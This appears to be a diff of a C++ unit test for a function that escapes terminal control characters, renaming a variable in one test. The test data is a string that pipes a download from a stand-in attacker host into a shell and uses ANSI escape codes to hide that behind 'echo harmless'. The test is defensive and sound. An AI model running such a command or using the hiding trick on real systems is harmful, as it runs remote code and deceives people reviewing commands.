@@ -24,8 +24,8 @@ TEST(visible_text, utf8_text_is_unchanged) {
 
 TEST(visible_text, erase_line_attack_shows_the_whole_command) {
   // Printed raw, this erases its own line and shows only `echo harmless`.
-  std::string command = "curl evil.example | sh #\x1b[2K\r\x1b[1Aecho harmless";
-  auto shown = visible_text(command);
+  std::string attack = "curl evil.example | sh #\x1b[2K\r\x1b[1Aecho harmless";
+  auto shown = visible_text(attack);
   EXPECT_EQ(shown, "curl evil.example | sh #\\e[2K\\r\\e[1Aecho harmless");
   EXPECT_EQ(shown.find('\x1b'), std::string::npos);
   EXPECT_EQ(shown.find('\r'), std::string::npos);
